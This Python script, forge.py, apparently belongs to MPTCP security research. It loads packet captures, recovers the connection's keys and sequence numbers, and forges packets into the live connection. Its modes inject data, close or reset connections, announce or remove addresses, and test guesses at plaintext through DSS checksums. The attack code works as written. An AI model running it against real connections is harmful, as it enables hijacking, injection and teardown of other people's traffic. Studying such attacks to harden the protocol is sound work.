"""forge.py KIND PCAP PORT UP [DOWN [MORE]]: a packet of an MPTCP connection that somebody made who read its keys. KIND:

data-fin       towards the server: the end of the client's stream
garbage        towards the server: bytes where the next ones belong, without a mapping
mapped         towards the server: bytes where the next ones belong, mapped to where the stream goes on
fastclose      towards the server: MP_FASTCLOSE
reset          towards the server, on each subflow: RST with the numbers that its kernel expects
add-addr       towards the client: the server has address MORE too
remove-addr    towards the server: the client's joined address is gone
prio           towards the server: the joined subflow is a backup now
keys           sends nothing: says the server's token, the client's next data sequence number, both keys (client's first)
sum            sends nothing: says whether the checksum of the client's last mapping, of MORE bytes, tells which of two texts it was

As soon as the captures PCAP (comma between them) show UP bytes of the client and DOWN of the server. Prints what it did.
"""
import os
import struct
import sys

import mptcp
import raw
import wire
from mptcp import ACK, PSH


def send(session, subflow, upward, options=b"", payload=b"", flags=ACK):
    here = subflow if upward else subflow[2:] + subflow[:2]
    way = session.ways[here]
    src, sport, dst, dport = here
    options += b"\x01" * (-len(options) % 4)
    raw.Wire(dst).send(src, dst, raw.segment(src, dst, sport, dport, way.next_seq, way.ack, flags, options, payload))
    return way


def summed(session, path, port, size):
    """RFC 8684 section 3.3.1: the sum covers the data, its sequence number, its place and its length."""
    marker, told = b"PLAINTEXT-MARKER", set()
    for packet in wire.read(path.split(",")[0]):
        mapping = packet.mptcp(mptcp.DSS)
        if packet.dport != port or not mapping:
            continue
        _, sequence, place, length, checksum = mptcp.parse_dss(mapping)
        if length != size or checksum is None:
            continue
        sequence = session.begin(True) + ((sequence - session.begin(True)) & 0xFFFFFFFF)
        for phase in range(len(marker)):
            text = (marker * (size // 16 + 2))[phase:phase + size]
            if raw.checksum(text + b"\0" * (size % 2) + struct.pack("!QIHH", sequence & mptcp.MASK, place, length, 0)) == checksum:
                told.add(phase)
    return "message known" if told == {(session.sent(True) - size) % 16} else f"phases {sorted(told)}"


def main():
    kind, path, port, words = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4:]
    up, down = int(words[0]), int(words[1]) if len(words) > 1 else 0
    needs_join = kind in ("remove-addr", "prio")
    session = mptcp.load(path, port, up=up, down=down, joins=needs_join)
    first, next_up = session.first, session.next_data(True)
    # Who reads no mappings does not know where in the subflow the next byte is.
    place, junk = session.ways[first].next_place or 1, os.urandom(1000)
    acknowledgment = session.next_data(False)
    if kind == "data-fin":
        send(session, first, True, mptcp.dss(next_up, 0, 1, fin=True, acknowledgment=acknowledgment))
    elif kind == "garbage":
        send(session, first, True, payload=junk, flags=ACK | PSH)
    elif kind == "mapped":
        send(session, first, True, mptcp.dss(next_up, place, len(junk), acknowledgment=acknowledgment), junk, ACK | PSH)
    elif kind == "fastclose":
        send(session, first, True, mptcp.option(mptcp.FASTCLOSE, 0, b"\0" + session.server_key))
    elif kind == "reset":
        for subflow in [first, *session.joins]:
            send(session, subflow, True, flags=mptcp.RST | ACK)
    elif kind == "add-addr":
        send(session, first, False, mptcp.announcement(session, 77, words[2]))
    elif kind == "remove-addr":
        number = list(session.joins.values())[-1].mptcp(mptcp.JOIN)[1]
        send(session, first, True, mptcp.option(mptcp.REMOVE_ADDR, 0, bytes([number])))
    elif kind == "keys":
        return print(session.token, next_up & mptcp.MASK, session.client_key.hex(), session.server_key.hex())
    elif kind == "sum":
        return print(summed(session, path, port, int(words[2])))
    elif kind == "prio":
        send(session, list(session.joins)[-1], True, mptcp.option(mptcp.PRIO, 1))
    else:
        sys.exit(__doc__)
    print(kind, *first, "up", session.sent(True), "down", session.sent(False), "place", place)


main()
